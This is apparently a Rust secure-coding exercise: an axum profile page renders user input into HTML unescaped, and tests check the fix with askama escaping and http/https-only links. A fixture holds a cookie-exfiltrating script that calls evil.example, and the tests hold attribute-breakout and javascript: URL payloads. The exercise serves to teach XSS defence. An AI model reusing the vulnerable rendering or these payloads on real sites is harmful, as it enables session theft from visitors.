//! # Output encoding in a server-rendered page (XSS)
//!
//! `render_profile` builds a user's public profile page from what they typed in their settings:
//! a name, a bio and a website. It pastes them into the HTML with `format!`, so a name like
//! `<script>...</script>` runs in every visitor's browser (stored cross-site scripting).
//! Render the same markup with an askama template instead:
//! - every value is HTML-escaped, once, by the template (`ext = "html"` escapes `&`, `<`, `>`,
//!   `"` and `'`), in the text and in the quoted attributes alike; no `|safe`;
//! - escaping does not make a URL safe: link the website only when it parses as an `http` or
//!   `https` URL (`url::Url::parse`), and leave the link out otherwise (`javascript:...`).
//!
//! Keep the markup exactly as it is; only how the values get into it changes.
//! Why it matters: whatever a user can make the page say, they can make every visitor's browser
//! run, with the visitor's session: an encoder that knows the context (text, attribute, URL)
//! is the fix, not a filter that guesses which input looks dangerous.

use axum::{
    Router,
    extract::Path,
    http::StatusCode,
    response::{Html, IntoResponse, Response},
    routing::get,
};

/// What a user typed in their settings.
pub struct Profile {
    pub name: String,
    pub bio: String,
    pub website: String,
}

/// The profile page.
pub fn render_profile(profile: &Profile) -> Result<String, askama::Error> {
    // INSECURE: the user's text is pasted into HTML as is.
    // TODO: declare a `#[derive(askama::Template)]` struct with
    // `#[template(ext = "html", source = "...")]` holding this markup, with `{{ name }}`,
    // `{{ bio }}` and the link inside `{% if let Some(url) = website %}...{% endif %}`; fill it
    // and call `.render()`. The website becomes `Some` only for an http or https URL.
    let link = format!(
        r#"<a href="{}" rel="nofollow ugc">website</a>"#,
        profile.website
    );
    Ok(format!(
        r#"<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>{name}</title></head>
<body>
<img alt="{name}" src="/avatar.png">
<h1>{name}</h1>
<p class="bio">{bio}</p>
{link}
</body>
</html>"#,
        name = profile.name,
        bio = profile.bio,
    ))
}

/// The profiles users saved; number 2 belongs to an attacker.
fn saved_profile(id: u32) -> Option<Profile> {
    match id {
        1 => Some(Profile {
            name: "Ada".into(),
            bio: "Engines & numbers".into(),
            website: "https://ada.example/notes?topic=engines&page=2".into(),
        }),
        2 => Some(Profile {
            name: "<script>fetch('//evil.example/?c='+document.cookie)</script>".into(),
            bio: "</p><img src=x onerror=alert(1)>".into(),
            website: "javascript:alert(document.domain)".into(),
        }),
        _ => None,
    }
}

async fn profile_page(Path(id): Path<u32>) -> Response {
    let Some(profile) = saved_profile(id) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    match render_profile(&profile) {
        Ok(page) => Html(page).into_response(),
        Err(_) => StatusCode::INTERNAL_SERVER_ERROR.into_response(),
    }
}

pub fn app() -> Router {
    Router::new().route("/profile/{id}", get(profile_page))
}

fn main() {
    // Checked by the tests, which render hostile profiles.
}

#[cfg(test)]
mod tests {
    use super::*;

    fn profile(name: &str, bio: &str, website: &str) -> Profile {
        Profile {
            name: name.into(),
            bio: bio.into(),
            website: website.into(),
        }
    }

    fn render(profile: &Profile) -> String {
        render_profile(profile).expect("render_profile returns the page")
    }

    /// The text between the first `start` and the next `end` after it.
    fn between<'a>(page: &'a str, start: &str, end: &str) -> Option<&'a str> {
        let from = page.find(start)? + start.len();
        let len = page[from..].find(end)?;
        Some(&page[from..from + len])
    }

    /// Decodes the character references an HTML parser would: named `&amp; &lt; &gt; &quot;
    /// &apos;` and numeric `&#60;` / `&#x3c;`. Anything else is left as it is.
    fn decode(text: &str) -> String {
        let mut out = String::new();
        let mut rest = text;
        while let Some(at) = rest.find('&') {
            out.push_str(&rest[..at]);
            rest = &rest[at..];
            let decoded = rest.find(';').and_then(|end| {
                let entity = &rest[1..end];
                let c = match entity {
                    "amp" => Some('&'),
                    "lt" => Some('<'),
                    "gt" => Some('>'),
                    "quot" => Some('"'),
                    "apos" => Some('\''),
                    _ => match entity.strip_prefix('#') {
                        Some(hex) if hex.starts_with(['x', 'X']) => {
                            u32::from_str_radix(&hex[1..], 16)
                                .ok()
                                .and_then(char::from_u32)
                        }
                        Some(dec) => dec.parse().ok().and_then(char::from_u32),
                        None => None,
                    },
                };
                c.map(|c| (c, end + 1))
            });
            match decoded {
                Some((c, len)) => {
                    out.push(c);
                    rest = &rest[len..];
                }
                None => {
                    out.push('&');
                    rest = &rest[1..];
                }
            }
        }
        out.push_str(rest);
        out
    }

    /// Asserts that `value` appears between `start` and `end` encoded: no raw markup character,
    /// and decoding gives back exactly what the user typed.
    fn assert_encoded(page: &str, start: &str, end: &str, value: &str, place: &str) {
        let raw = between(page, start, end)
            .unwrap_or_else(|| panic!("the page lost its markup around {place}:\n{page}"));
        let markup: Vec<char> = raw.chars().filter(|c| "<>\"'".contains(*c)).collect();
        assert!(
            markup.is_empty() && decode(raw) == value,
            "{place}: the user typed {value:?}, and the page has `{raw}` there (up to the next \
             `{end}`): every value must be HTML-escaped (&, <, >, \" and ' as character \
             references), in text and attributes alike, or the text becomes markup \
             (cross-site scripting). Render it through the askama template, not format!\n\
             page:\n{page}"
        );
    }

    #[test]
    fn names_and_bios_are_text_not_markup() {
        let name = "<script>alert(document.cookie)</script>";
        let bio = "</p><img src=x onerror=alert(1)><p>";
        let page = render(&profile(name, bio, ""));
        assert_encoded(&page, "<h1>", "</h1>", name, "the heading");
        assert_encoded(&page, "<title>", "</title>", name, "the title");
        assert_encoded(&page, "<p class=\"bio\">", "</p>", bio, "the bio");
    }

    #[test]
    fn quotes_cannot_leave_an_attribute() {
        for name in [
            "Ada\" onmouseover=\"alert(1)",
            "Ada' onfocus='alert(1)' autofocus='",
        ] {
            let page = render(&profile(name, "hi", ""));
            assert_encoded(&page, "<img alt=\"", "\" src=", name, "the alt attribute");
            assert_encoded(&page, "<h1>", "</h1>", name, "the heading");
        }
    }

    #[test]
    fn text_is_escaped_exactly_once() {
        let name = "Tom & Jerry &lt;3";
        let page = render(&profile(name, "Fish & chips", ""));
        assert_encoded(&page, "<h1>", "</h1>", name, "the heading");
        assert_encoded(
            &page,
            "<p class=\"bio\">",
            "</p>",
            "Fish & chips",
            "the bio",
        );
        assert!(
            !page.contains("&amp;amp;") && !page.contains("&#38;amp;"),
            "an ampersand was escaped twice: the template escapes, so pass it the text as typed \
             (and never escape `&` after the other characters)"
        );
    }

    #[test]
    fn only_http_and_https_websites_are_linked() {
        for website in [
            "javascript:alert(document.cookie)",
            "JavaScript:alert(1)",
            "  javascript:alert(1)",
            "java\tscript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "",
            "not a url",
        ] {
            let page = render(&profile("Ada", "hi", website));
            assert!(
                !page.contains("<a "),
                "the website {website:?} is not an http or https URL, so the page must not link \
                 it (escaping does not make `javascript:` safe in an href: parse the URL and \
                 check its scheme instead of looking for bad words); got:\n{page}"
            );
        }
    }

    #[test]
    fn http_and_https_websites_are_linked_escaped() {
        for website in [
            "https://ada.example/notes?topic=engines&page=2",
            "http://ada.example/",
            "HTTPS://ada.example/a\"b",
        ] {
            let page = render(&profile("Ada", "hi", website));
            let href = between(&page, "<a href=\"", "\"").unwrap_or_else(|| {
                panic!("the website {website:?} is an http(s) URL: link it\npage:\n{page}")
            });
            let linked = url::Url::parse(&decode(href)).ok();
            assert_eq!(
                linked,
                url::Url::parse(website).ok(),
                "the link must lead to the website {website:?}, escaped for the attribute, got \
                 href=\"{href}\""
            );
            assert!(
                !href.contains('"') && !href.contains('<'),
                "the href is an attribute value: escape it like any other"
            );
        }
    }

    #[tokio::test]
    async fn the_attackers_saved_profile_is_served_harmless() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app()).await.unwrap() });
        let client = reqwest::Client::builder().no_proxy().build().unwrap();
        let response = client
            .get(format!("http://{addr}/profile/2"))
            .send()
            .await
            .expect("the server closed the connection without answering");
        assert_eq!(response.status().as_u16(), 200, "GET /profile/2 is a page");
        let page = response.text().await.unwrap();
        assert!(
            !page.contains("<script") && !page.contains("<img src=x"),
            "GET /profile/2 serves the attacker's markup as markup:\n{page}"
        );
        assert!(
            !page.contains("javascript:"),
            "GET /profile/2 links the attacker's javascript: URL:\n{page}"
        );
    }
}
